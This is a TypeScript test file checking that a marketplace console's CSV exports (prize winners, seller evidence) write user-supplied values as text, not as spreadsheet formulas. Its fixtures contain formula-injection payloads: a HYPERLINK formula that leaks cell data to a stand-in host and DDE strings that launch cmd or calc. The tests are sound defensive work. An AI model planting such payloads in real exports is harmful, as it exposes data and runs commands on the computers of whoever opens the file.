import fs from 'node:fs';
import path from 'node:path';
import type { TFunction } from 'i18next';
import { describe, expect, it } from 'vitest';
import type { adminActivities, patrol } from '@marketlens/core/contract';
import { evidenceCsv } from '../../patrol/use-evidence-export';
import { winnersCsv } from './winners';

// Keys stand for their translations.
const t = ((key: string) => key) as unknown as TFunction<'admin'> & TFunction<'patrol'>;
const root = path.resolve(__dirname, '../../../../..');

describe('CSV exports of the console and the patrol', () => {
  it('writes a winner\'s typed delivery details as text, not as formulas', () => {
    const row: adminActivities.WinnerRow = {
      drawId: 7, userId: 3, account: '@evil', phone: '138****8000', prize: { id: 1, kind: 'physical', nameZh: '耳机', nameEn: 'Headphones', nameRu: 'Наушники' },
      wonAt: '2026-11-01 10:00', claimedAt: null, receiverName: '=HYPERLINK("http://x.example/?"&A1,"Click")', receiverPhone: '+79001234567',
      address: '-2+3+cmd|\' /C calc\'!A0', shipStatus: 'pending', carrier: null, trackingNo: '\t=1+1', shipUpdatedAt: null,
    };
    const lines = winnersCsv([row], t, 'en').split('\r\n');
    expect(lines[0]).toBe('\ufeffactivities.csv.drawId,activities.csv.account,activities.csv.phone,activities.csv.prize,activities.csv.wonAt,activities.csv.receiver,activities.csv.receiverPhone,activities.csv.address,activities.csv.status,activities.csv.carrier,activities.csv.trackingNo');
    expect(lines[1]).toBe(
      `7,'@evil,138****8000,Headphones,2026-11-01 10:00,"'=HYPERLINK(""http://x.example/?""&A1,""Click"")",'+79001234567,'-2+3+cmd|' /C calc'!A0,activities.ship.pending,,'\t=1+1`,
    );
    expect(lines[2]).toBe('');
  });

  it('writes a seller\'s name from the marketplace as text, not as a formula', () => {
    const row = { caseId: 1, goodsId: 2, title: 'Чехол, синий', sellerId: 3, sellerName: '=cmd|\'/C calc\'!A0', firstSeenAt: '2026-11-01', checkedAt: '2026-11-02', price: 12_345, ownPrice: 13_000, status: 'open' } as unknown as patrol.EvidenceRow;
    expect(evidenceCsv([row], t).split('\r\n')[1]).toBe(`1,2,"Чехол, синий",3,'=cmd|'/C calc'!A0,2026-11-01,2026-11-02,123.45,130.00,history.open`);
  });

  it('has one CSV writer: no other file of the code base quotes CSV cells itself', () => {
    const own = path.join(root, 'core/src/format/csv.ts');
    const found: string[] = [];
    const walk = (dir: string) => {
      for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
        const full = path.join(dir, entry.name);
        if (entry.isDirectory()) {
          if (!['node_modules', 'build', '.output', '.wxt', 'dist'].includes(entry.name)) walk(full);
        } else if (/\.(ts|tsx|mjs|js)$/.test(entry.name) && !/\.test\.tsx?$/.test(entry.name) && full !== own) {
          // Doubling quotes inside a cell is what a CSV writer does.
          if (/replace\(\/"\/g, ?['`]""['`]\)/.test(fs.readFileSync(full, 'utf8'))) found.push(path.relative(root, full));
        }
      }
    };
    for (const dir of ['core/src', 'server/src', 'web/app', 'extension/lib', 'extension/entrypoints', 'extension/components', 'scripts', 'tests']) {
      if (fs.existsSync(path.join(root, dir))) walk(path.join(root, dir));
    }
    expect(found).toEqual([]);
  });
});
